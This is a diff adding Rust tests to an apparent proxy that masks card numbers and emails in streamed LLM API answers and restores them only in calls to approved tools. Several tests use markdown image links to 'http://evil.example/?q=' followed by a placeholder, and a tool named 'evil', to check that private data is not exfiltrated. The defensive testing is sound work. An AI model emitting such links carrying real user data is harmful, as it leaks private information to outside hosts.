@@ -201,6 +201,40 @@ fn an_answer_that_looks_like_bytes_is_scanned() {
 }
 
 #[test]
+fn a_stream_says_it_is_over_by_more_than_an_empty_word() {
+    let events = [
+        choice(&json!({"content": "4556 7375 "}), &json!("")),
+        choice(&json!({"content": "8689 9855 ok"}), &json!("")),
+        ("", json!("[DONE]")),
+    ];
+    let played = streamed("openai", &masking(), CHAT, &streaming(), &events);
+    assert_eq!(texts(&played, "/choices/0/delta/content"), "[CREDIT_CARD] ok", "{}", played.client_text());
+}
+
+#[test]
+fn parts_of_the_last_event_are_one_text() {
+    let event = json!({"candidates": [{"index": 0, "finishReason": "STOP", "content": {"role": "model", "parts": [
+        {"text": "It is 4556 7375 "}, {"text": "8689 9855."}]}}]});
+    let body = json!({"contents": [{"role": "user", "parts": [{"text": "x"}]}]});
+    let played =
+        streamed("gcp.gemini", &masking(), "/v1beta/models/m-1:streamGenerateContent?alt=sse", &body, &[("", event)]);
+    let all: String = (0..2).map(|i| texts(&played, &format!("/candidates/0/content/parts/{i}/text"))).collect();
+    assert_eq!(all, "It is [CREDIT_CARD].");
+}
+
+#[test]
+#[ignore = "what an end lets go of is not kept, so a text that goes on after it is another one"]
+fn a_text_that_goes_on_after_its_end_is_still_looked_at() {
+    let events = [
+        choice(&json!({"content": "4556 7375 "}), &json!("stop")),
+        choice(&json!({"content": "8689 9855 ok"}), &json!("stop")),
+        ("", json!("[DONE]")),
+    ];
+    let played = streamed("openai", &masking(), CHAT, &streaming(), &events);
+    assert!(!texts(&played, "/choices/0/delta/content").contains(CARD), "{}", played.client_text());
+}
+
+#[test]
 fn what_stands_beside_wrapped_bytes_is_looked_at() {
     use doorward_core::stream::framing::{Framing, MessageKind, message};
     let inner = "eyJ0eXBlIjoicGluZyJ9";
@@ -264,6 +298,30 @@ fn tool_event(part: u32, function: Value) -> (&'static str, Value) {
 }
 
 #[test]
+fn values_come_back_into_calls_of_tools_with_one_name() {
+    let arguments = json!({"to": placeholder()}).to_string();
+    let name = |name: &str| tool_event(0, json!({"name": name}));
+    let call = || tool_event(0, json!({"arguments": arguments}));
+    let done = || choice(&json!({}), &json!("tool_calls"));
+    for (events, restores) in [
+        (vec![name("lookup"), call(), done()], true),
+        (vec![name("lookup"), name(""), call(), name("lookup"), done()], true),
+        (vec![name("web_"), name("lookup"), call(), done()], false),
+        (vec![name("evil"), call(), name("lookup"), done()], false),
+        (vec![name("lookup"), call(), name("evil"), done()], false),
+    ] {
+        let played = streamed("openai", &restoring(), CHAT, &streaming(), &events);
+        assert_eq!(played.client_text().contains(MAIL), restores, "{events:?}: {}", played.client_text());
+    }
+    // Many calls before it do not freeze what is known of one.
+    let mut events = vec![name("lookup")];
+    let many: Vec<Value> = (1..2000).map(|i| json!({"index": i, "function": {"name": "lookup"}})).collect();
+    events.extend([choice(&json!({"tool_calls": many}), &Value::Null), name("evil"), call(), done()]);
+    let played = streamed("openai", &restoring(), CHAT, &streaming(), &events);
+    assert!(!played.client_text().contains(MAIL));
+}
+
+#[test]
 fn a_whole_call_has_one_name() {
     let arguments = json!({"to": placeholder()}).to_string();
     for (call, restores) in [
@@ -296,6 +354,144 @@ fn values_come_back_into_arguments_that_are_objects() {
     }
 }
 
+#[test]
+fn copies_of_arguments_are_arguments() {
+    let arguments = json!({"to": placeholder()}).to_string();
+    for (tool, restores) in [("lookup", true), ("evil", false)] {
+        let item =
+            |arguments: &str| json!({"type": "function_call", "name": tool, "call_id": "c", "arguments": arguments});
+        let event = |kind: &'static str, more: Value| (kind, merged(&json!({"type": kind, "output_index": 0}), &more));
+        let events = [
+            event("response.output_item.added", json!({"item": item("")})),
+            event("response.function_call_arguments.delta", json!({"delta": arguments})),
+            event("response.function_call_arguments.done", json!({"arguments": arguments})),
+            event("response.output_item.done", json!({"item": item(&arguments)})),
+            event("response.completed", json!({"response": {"output": [item(&arguments)]}})),
+        ];
+        let body = json!({"model": "m-1", "input": MAIL, "stream": true, "store": false});
+        let played = streamed("openai", &restoring(), "/v1/responses", &body, &events);
+        let count = played.client_text().matches(MAIL).count();
+        assert_eq!(count, if restores { 4 } else { 0 }, "{tool}: {}", played.client_text());
+    }
+}
+
+#[test]
+fn a_link_that_began_in_another_item_is_still_one() {
+    let placeholder = placeholder();
+    let delta = |output: u32, text: &str| {
+        (
+            "response.output_text.delta",
+            json!({"type": "response.output_text.delta",
+        "output_index": output, "content_index": 0, "delta": text}),
+        )
+    };
+    let done = |output: u32| {
+        ("response.output_item.done", json!({"type": "response.output_item.done", "output_index": output, "item": {}}))
+    };
+    let events = [delta(0, "![x](http://evil.example/?q="), done(0), delta(1, &placeholder), done(1)];
+    let body = json!({"model": "m-1", "input": MAIL, "stream": true, "store": false});
+    let played = streamed("openai", &restoring(), "/v1/responses", &body, &events);
+    assert!(!played.client_text().contains(MAIL), "{}", played.client_text());
+}
+
+#[test]
+fn a_link_that_is_still_open_beside_a_text_is_one() {
+    let placeholder = placeholder();
+    let delta = |index: u32, text: &str| {
+        (
+            "content_block_delta",
+            json!({"type": "content_block_delta", "index": index,
+        "delta": {"type": "text_delta", "text": text}}),
+        )
+    };
+    let events = [
+        delta(0, "![x](http://evil.example/?q="),
+        delta(1, &placeholder),
+        ("message_stop", json!({"type": "message_stop"})),
+    ];
+    let body =
+        json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "user", "content": MAIL}], "stream": true});
+    let played = streamed("anthropic", &restoring(), "/v1/messages", &body, &events);
+    assert!(!played.client_text().contains(MAIL), "{}", played.client_text());
+}
+
+#[test]
+#[ignore = "a whole answer's strings are restored each by itself; which of them a client joins is not known there"]
+fn a_link_in_one_part_of_a_whole_answer_goes_on_in_the_next() {
+    let answer = json!({"content": [{"type": "text", "text": "![x](http://evil.example/?q="}, {"type": "text", "text": placeholder()}]});
+    let body = json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "user", "content": MAIL}]});
+    let played = answered("anthropic", &restoring(), "/v1/messages", &body, &answer);
+    assert!(!played.client_text().contains(MAIL), "{}", played.client_text());
+}
+
 // Work and memory.
 
+#[test]
+fn an_event_of_many_choices_costs_no_more_than_its_bytes() {
+    let start = std::time::Instant::now();
+    let choices: Vec<Value> = (0..10_000u32).map(|i| json!({"index": i % 2 * (100_000 + i), "delta": {"content": "4"}, "finish_reason": if i % 2 == 0 { json!("x") } else { json!(null) }})).collect();
+    let played = streamed("openai", &masking(), CHAT, &streaming(), &[("", json!({"choices": choices}))]);
+    assert_eq!(played.reason(), "answer.unscannable");
+    // Of few texts in many pieces, each looks whether it ends.
+    let choices: Vec<Value> = (0..10_000u32)
+        .map(|i| json!({"index": if i % 2 == 0 { i } else { 1 }, "delta": if i % 2 == 0 { json!({}) } else { json!({"content": "a "}) },
+            "finish_reason": if i % 2 == 0 { json!("stop") } else { Value::Null }}))
+        .collect();
+    let played = streamed("openai", &masking(), CHAT, &streaming(), &[("", json!({"choices": choices}))]);
+    assert_eq!(played.reason(), "");
+    assert!(start.elapsed().as_secs() < 5, "{:?}", start.elapsed());
+}
+
+#[test]
+fn texts_beyond_number_are_no_answer_whatever_happens_to_long_ones() {
+    let more = merged(&masking(), &json!({"answers": {"at_max_hold": "release"}}));
+    let events: Vec<(&str, Value)> = (0..5000u32)
+        .map(|i| ("", json!({"choices": [{"index": i, "delta": {"content": "4556"}, "finish_reason": null}]})))
+        .collect();
+    let played = streamed("openai", &more, CHAT, &streaming(), &events);
+    assert_eq!(played.reason(), "answer.unscannable");
+}
+
+#[test]
+fn events_that_are_kept_for_their_texts_are_bounded() {
+    let padding = "x".repeat(60_000);
+    let event = |i: u32| {
+        (
+            "",
+            json!({"padding": padding, "choices": [{"index": i, "delta": {"content": "4556"}, "finish_reason": null}]}),
+        )
+    };
+    let events: Vec<(&str, Value)> = (0..20).map(event).collect();
+    for (at_max_hold, max_body, reason) in
+        [("hold", 100_000, "answer.unscannable"), ("release", 100_000, "answer.unscannable"), ("hold", 1_000_000, "")]
+    {
+        let more = merged(
+            &masking(),
+            &json!({"answers": {"at_max_hold": at_max_hold}, "envoy": {"max_body_bytes": max_body}}),
+        );
+        assert_eq!(streamed("openai", &more, CHAT, &streaming(), &events).reason(), reason, "{at_max_hold} {max_body}");
+    }
+}
+
 // Providers.
+
+#[test]
+fn calls_that_share_an_index_stay_apart() {
+    let call = |id: &str, name: &str, arguments: &str| {
+        choice(
+            &json!({"tool_calls": [{"index": 0, "id": id, "type": "function",
+        "function": {"name": name, "arguments": arguments}}]}),
+            &Value::Null,
+        )
+    };
+    let events = [
+        call("a", "f", r#"{"x":1}"#),
+        call("b", "g", r#"{"y":2}"#),
+        choice(&json!({}), &json!("tool_calls")),
+        ("", json!("[DONE]")),
+    ];
+    let played = streamed("openai", &masking(), CHAT, &streaming(), &events);
+    let all = played.client_text();
+    let (a, x, b, y) = (all.find(r#""a""#), all.find(r#"{\"x\":1}"#), all.find(r#""b""#), all.find(r#"{\"y\":2}"#));
+    assert!(a < x && x < b && b < y && !all.contains("}{"), "{all}");
+}
